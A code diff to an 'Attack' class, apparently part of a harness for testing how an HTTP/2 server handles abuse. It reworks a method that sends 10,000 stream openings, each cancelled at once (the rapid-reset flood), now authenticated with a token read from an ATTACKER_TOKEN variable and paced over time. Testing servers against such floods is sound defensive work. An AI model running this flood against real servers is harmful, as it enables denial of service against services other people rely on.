@@ -112,15 +112,17 @@ class Attack:
         await asyncio.gather(*(self.repeated(burst) for _ in range(4)))
 
     async def resets(self) -> None:
-        """Calls that are cancelled in the same breath, 10,000 in all, spread over the time."""
+        """Calls that are cancelled in the same breath, 10,000 in all, spread over the time.
+
+        With a good token, so that nothing but the resets is held against it.
+        """
         streams: dict[asyncio.StreamWriter, int] = {}
-        block = headers("x.y.z")
-        each = RESETS / max(1.0, self.until - time.monotonic()) * 0.012 / 4
+        block = headers(os.environ["ATTACKER_TOKEN"])
+        began, whole = time.monotonic(), max(1.0, 0.9 * (self.until - time.monotonic()))
 
         def burst(writer: asyncio.StreamWriter) -> None:
-            for _ in range(max(1, round(each))):
-                if self.sent >= RESETS:
-                    return
+            due = min(RESETS, (time.monotonic() - began) / whole * RESETS) - self.sent
+            for _ in range(min(500, int(due))):
                 stream = streams[writer] = streams.get(writer, -1) + 2
                 writer.write(frame(HEADERS, END_HEADERS, stream, block) + frame(RST, 0, stream, b"\0\0\0\x08"))
                 self.sent += 1
